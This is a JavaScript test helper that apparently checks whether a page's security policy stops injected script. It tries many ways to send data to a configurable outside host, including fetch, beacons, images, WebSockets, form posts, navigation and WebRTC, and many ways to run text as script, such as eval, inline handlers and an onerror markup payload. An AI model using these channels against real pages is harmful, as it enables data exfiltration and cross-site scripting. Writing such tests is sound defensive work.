// What an injected script would try. A server records what was sent; a global variable shows whether text ran
// as script.

globalThis.intruder = (() => {
  const CODE = 'globalThis.intruded = true';

  /** Waits until an attempt has had its effect. */
  const soon = () => new Promise((resolve) => setTimeout(resolve, 300));

  function add(tag, properties) {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    return element;
  }

  /** Ways to send data to `foreign` while the page stays. */
  const sends = {
    fetch: (foreign) => fetch(`${foreign}fetch`, { method: 'POST', body: 'data' }),
    beacon: (foreign) => navigator.sendBeacon(`${foreign}beacon`, 'data'),
    image: (foreign) => add('img', { src: `${foreign}image?data` }),
    stylesheet: (foreign) => add('link', { rel: 'stylesheet', href: `${foreign}stylesheet?data` }),
    frame: (foreign) => add('iframe', { src: `${foreign}frame?data` }),
    script: (foreign) => add('script', { src: `${foreign}script?data` }),
    module: (foreign) => import(`${foreign}module?data`),
    prefetch: (foreign) => add('link', { rel: 'prefetch', href: `${foreign}prefetch?data` }),
    socket: (foreign) => new WebSocket(`${foreign.replace('http', 'ws')}socket?data`),
    events: (foreign) => new EventSource(`${foreign}events?data`),
    ping: (foreign) => add('a', { href: '#', ping: `${foreign}ping?data` }).click(),
  };

  /** Ways to send data by leaving the page. */
  const leaves = {
    form: (foreign) => add('form', { action: `${foreign}form?data`, method: 'post' }).submit(),
    navigation: (foreign) => location.assign(`${foreign}navigation?data`),
    window: (foreign) => open(`${foreign}window?data`),
  };

  /** Ways to run text as script. */
  const runs = {
    'inline script': () => add('script', { textContent: CODE }),
    handler: () => {
      const element = add('p', {});
      element.setAttribute('onclick', CODE);
      element.click();
    },
    markup: () => (add('p', {}).innerHTML = `<img src="data:," onerror="${CODE}">`),
    eval: () => (0, eval)(CODE),
    Function: () => new Function(CODE)(),
    timer: () => setTimeout(CODE),
    address: () => add('a', { href: `javascript:void (${CODE})` }).click(),
    worker: () => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(0)'])));
      worker.onmessage = () => (globalThis.intruded = true);
    },
  };

  async function attempt(act) {
    delete globalThis.intruded;
    await Promise.resolve().then(act).catch(() => {});
    await soon();
    return globalThis.intruded === true;
  }

  return {
    /** Sends data without leaving the page. */
    async send(foreign) {
      await Promise.all(Object.values(sends).map((send) => attempt(() => send(foreign))));
    },
    /** Contacts a STUN server: its name or password could contain data. */
    async connect(server) {
      await attempt(async () => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls: server }] });
        connection.createDataChannel('data');
        await connection.setLocalDescription(await connection.createOffer());
      });
    },
    leave: (way, foreign) => attempt(() => leaves[way](foreign)),
    /** The names of the ways that succeeded. */
    async run() {
      const worked = [];
      for (const [name, act] of Object.entries(runs)) if (await attempt(act)) worked.push(name);
      return worked;
    },
  };
})();
